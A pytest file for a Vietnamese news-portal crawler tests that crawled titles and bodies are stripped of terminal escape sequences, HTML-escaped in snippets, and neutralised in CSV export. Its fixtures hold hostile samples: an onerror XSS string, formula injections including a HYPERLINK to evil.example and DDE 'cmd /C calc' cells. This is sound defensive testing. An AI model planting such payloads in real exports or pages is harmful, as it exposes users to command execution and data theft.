"""Crawled text never drives a terminal, a spreadsheet or a browser (issue 10, defects 3 and 10).

A loopback portal serves an article whose title and body carry terminal control sequences
(``ESC ] 0 ; … BEL`` retitles a terminal, ``ESC [ 2 J`` clears it, C1 ``CSI``), markup shown
as text (``<img src=x onerror=…>``) and formula cells (``=HYPERLINK(…)``, ``@SUM(…)``).  After a
real crawl into a real SQLite store: nothing stored holds a control character, ``search``
prints none, ``search --json`` gives an escaped ``snippet_html`` and a plain ``snippet_text``,
and CSV cells that start like a formula are neutralised.  Data stored before the fix (written
straight into the store here) is printed safely too.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from crawler.cli import main
from pipelines.normalize.text import normalize_paragraphs, normalize_text
from pipelines.output import CsvWriter, neutralise_cell, snippet_html, snippet_text, terminal_text
from pipelines.storage import Document, RunRecord
from pipelines.storage.sqlite import SQLiteStore
from tests.conftest import loopback_server
from tests.scheduling import FAST, run_cli
from tests.test_compose import strings

# Every control character a terminal may act on: C0 but newline (tab is allowed in the data, not
# here: the CLI prints one value per line), DEL and C1.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
HOSTILE_TITLE = "Hội nghị \x1b]0;pwned\x07tổng kết \x1b[2Jnăm 2025\x9b31m"
HOSTILE_BODY = ("Ủy ban nhân dân xã tổ chức hội nghị tổng kết \x1b[31mcông tác\x1b[0m năm 2025 với sự tham gia "
                "của các ban, ngành, đoàn thể. &lt;img src=x onerror=alert(1)&gt; Hội nghị đã thảo luận "
                "nhiều giải pháp thiết thực\x07 cho năm tới.")

ARTICLE = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8">
<title>{title}</title></head><body>
<div class="menu"><a href="/">Trang chủ</a></div>
<div class="article"><h1>{title}</h1>
<div class="meta">Ngày đăng: 05/03/2025 08:15 | Lượt xem: 1.234</div>
<p>{body}</p>
<p>Tại hội nghị, các đại biểu đã thảo luận, đánh giá những kết quả đạt được, chỉ ra những khó khăn, vướng mắc và
đề xuất nhiều giải pháp thiết thực trong thời gian tới nhằm hoàn thành các chỉ tiêu được giao.</p>
</div></body></html>"""

PAGES = {
    "/": '<html><head><meta charset="utf-8"><title>Tin tức</title></head><body><ul>'
         '<li><a href="/tin/1.html">Bài 1</a></li><li><a href="/tin/2.html">Bài 2</a></li></ul></body></html>',
    "/tin/1.html": ARTICLE.format(title=HOSTILE_TITLE, body=HOSTILE_BODY),
    "/tin/2.html": ARTICLE.format(title='=HYPERLINK("http://evil.example/?x="&amp;A1,"Bấm vào đây")',
                                  body="@SUM(1+1)*cmd|' /C calc'!A0 " + HOSTILE_BODY),
}


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        page = PAGES.get(self.path)
        body = (page or ("User-agent: *\n" if self.path == "/robots.txt" else "not found")).encode("utf-8")
        self.send_response(200 if page or self.path == "/robots.txt" else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A store holding one crawl of the hostile portal."""
    tmp = tmp_path_factory.mktemp("hostile")
    with loopback_server("127.0.0.33", _Handler) as port:
        registry = tmp / "portals.yaml"
        registry.write_text("portals:\n  - {id: doc-hai, name: Xã Độc Hại, level: commune, province: Lào Cai, "
                            f"url: 'http://127.0.0.33:{port}/'}}\n", "utf-8")
        store = f"sqlite:///{tmp / 's.db'}"
        result = run_cli("crawl", "--portals", str(registry), "--store", store, *FAST)
        assert result.returncode == 0, result.stderr[-2000:]
        assert not CONTROL.search(result.stdout), "the crawl summary prints no control character"
        yield store


def test_normalised_text_has_no_control_characters() -> None:
    assert normalize_text(HOSTILE_TITLE) == "Hội nghị ]0;pwnedtổng kết [2Jnăm 202531m"
    assert normalize_text("Tin\rtức\x0cmới\x85nhất") == "Tin tức mới nhất"  # whitespace controls separate words
    assert normalize_paragraphs("Đoạn\x1b[2J một.\r\nĐoạn\x00 hai.\x7f") == "Đoạn[2J một.\nĐoạn hai."


def test_nothing_stored_from_the_hostile_page_holds_a_control_character(crawled: str) -> None:
    rows = [json.loads(line) for line in run_cli("export", "--store", crawled).stdout.splitlines()]
    assert len(rows) == 2
    for row in rows:
        for text in strings(row):
            assert not CONTROL.search(text.replace("\n", "")), repr(text)
    titles = sorted(r["title"] for r in rows)
    assert titles[1] == "Hội nghị ]0;pwnedtổng kết [2Jnăm 202531m"


def test_search_prints_no_control_character(crawled: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["search", "hoi nghi", "--store", crawled]) == 0
    out = capsys.readouterr().out
    assert "Hội nghị" in out and "[hội nghị]" in out
    assert not CONTROL.search(out), repr(CONTROL.findall(out))


def test_search_json_gives_an_escaped_html_snippet_and_a_plain_one(crawled: str,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["search", "onerror", "--store", crawled, "--jsonl"]) == 0
    hits = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(hits) == 2
    for hit in hits:
        assert "<img" not in hit["snippet_html"] and "&lt;img src=x <mark>onerror</mark>=alert(1)&gt;" in \
            hit["snippet_html"]
        assert "<img src=x onerror=alert(1)>" in hit["snippet_text"] and "<mark>" not in hit["snippet_text"]
        assert hit["snippet"] == hit["snippet_html"]


def test_csv_export_neutralises_formula_cells(crawled: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--store", crawled, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    by_title = {r["title"][:3]: r for r in rows}
    assert by_title["'=H"]["title"].startswith("'=HYPERLINK(")
    assert by_title["'=H"]["body"].startswith("'@SUM(1+1)")
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("cell", ["=1+2", "+SUM(A1)", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"x\")"])
def test_the_shared_csv_writer_neutralises_every_formula_start(cell: str) -> None:
    out = io.StringIO()
    writer = CsvWriter(out, ["a", "n"])
    writer.writeheader()
    writer.writerow({"a": cell, "n": -5})
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"a": "'" + cell, "n": "-5"}  # numbers stay numbers
    assert neutralise_cell("Hội nghị = tốt") == "Hội nghị = tốt"


def test_snippets_escape_everything_but_their_marks() -> None:
    raw = 'a <b onclick="x">&amp; <mark>hội nghị</mark> </mark> <mark>x'
    assert snippet_html(raw) == 'a &lt;b onclick=&quot;x&quot;&gt;&amp;amp; <mark>hội nghị</mark> &lt;/mark&gt; &lt;mark&gt;x'
    assert snippet_text(raw) == 'a <b onclick="x">&amp; hội nghị </mark> <mark>x'
    assert terminal_text("a\x1b[2Jb\nc\u202ed") == "a?[2Jb c?d"


@pytest.fixture()
def old_store(tmp_path: Path) -> str:
    """Data stored before control characters were stripped, and registry facts with them."""
    store = SQLiteStore(tmp_path / "old.db")
    store.open()
    store.upsert_documents([Document(
        url="http://127.0.0.1/tin/1.html", portal_id="doc-hai", title=HOSTILE_TITLE, body=HOSTILE_BODY,
        published_at="2025-03-05T08:15:00+07:00", view_count=1234, province="Lào Cai\x1b[2J",
        crawled_at="2026-01-01T00:00:00+00:00")])
    store.save_run(RunRecord(run_id="r", portal_id="doc-hai", started_at="2026-01-01T00:00:00+00:00",
                             finished_at="2026-01-01T00:01:00+00:00", outcome="ok", pages_fetched=3,
                             portal_name="=cmd|' /C calc'!A0", province="Lào Cai\x1b]0;x\x07", level="commune"))
    store.close()
    return f"sqlite:///{tmp_path / 'old.db'}"


def test_old_data_is_printed_safely(old_store: str, capsys: pytest.CaptureFixture[str]) -> None:
    for command in (["search", "hoi nghi"], ["coverage"], ["coverage", "--by", "province"], ["coverage", "--json"],
                    ["search", "hoi nghi", "--json"], ["check"], ["check", "--json"]):
        main([*command, "--store", old_store])
        out = capsys.readouterr()
        assert not CONTROL.search(out.out.replace("\n", "")), (command, out.out)
        assert not CONTROL.search(out.err.replace("\n", "")), (command, out.err)


def test_coverage_csv_neutralises_formula_cells(old_store: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["coverage", "--store", old_store, "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0"


# --- issue 10, small things: export -o errors and search warnings --------------------------------------

@pytest.mark.parametrize(("target", "cause"), [
    ("{tmp}/no/such/folder/x.jsonl", "does not exist"),
    ("/dev/full", "No space left on device"),
    ("/etc/", "it is a folder"),
])
def test_export_to_a_place_that_cannot_be_written_is_one_line(old_store: str, tmp_path: Path, target: str,
                                                              cause: str) -> None:
    result = run_cli("export", "--store", old_store, "-o", target.format(tmp=tmp_path))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"portalnews export: error: cannot write {target.format(tmp=tmp_path)}")
    assert cause in lines[0]


def test_a_failed_export_leaves_the_previous_file_alone(old_store: str, tmp_path: Path) -> None:
    previous = tmp_path / "export.jsonl"
    assert main(["export", "--store", old_store, "-o", str(previous)]) == 0
    before = previous.read_text("utf-8")
    assert json.loads(before)["portal_id"] == "doc-hai"
    assert main(["export", "--store", old_store, "-o", str(previous), "--format", "csv"]) == 0
    assert previous.read_text("utf-8").startswith("\ufeffurl,portal_id,")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".export")] == []


def test_search_warns_about_a_province_no_portal_is_in(old_store: str, capsys: pytest.CaptureFixture[str]) -> None:
    store = SQLiteStore(Path(old_store.removeprefix("sqlite:///")))
    store.open()
    store.save_run(RunRecord(run_id="r2", portal_id="doc-hai", started_at="2026-01-02T00:00:00+00:00",
                             finished_at="2026-01-02T00:01:00+00:00", outcome="ok", province="Lào Cai"))
    store.close()
    assert main(["search", "hoi nghi", "--store", old_store, "--province", "Tỉnh Lao Kai"]) == 0
    err = capsys.readouterr().err
    assert "warning: no portal in this store is in province 'Tỉnh Lao Kai'; did you mean --province 'Lào Cai'?" in err
    # "Tỉnh Lào Cai" is Lào Cai (pipelines.admin): a portal of the store is there, nothing to warn about
    assert main(["search", "hoi nghi", "--store", old_store, "--province", "Tỉnh Lào Cai"]) == 0
    assert "warning" not in capsys.readouterr().err
    assert main(["search", "hoi nghi", "--store", old_store, "--province", "Lao Kai"]) == 0
    assert "did you mean --province 'Lào Cai'?" in capsys.readouterr().err


def test_search_warns_when_since_is_after_until(old_store: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["search", "hoi nghi", "--store", old_store, "--since", "2025-06-01", "--until", "2025-01-01"]) == 0
    err = capsys.readouterr().err
    assert "warning: --since 2025-06-01 is after --until 2025-01-01" in err
    assert main(["search", "hoi nghi", "--store", old_store, "--since", "2025-01-01", "--until", "2025-06-01"]) == 0
    assert "warning" not in capsys.readouterr().err
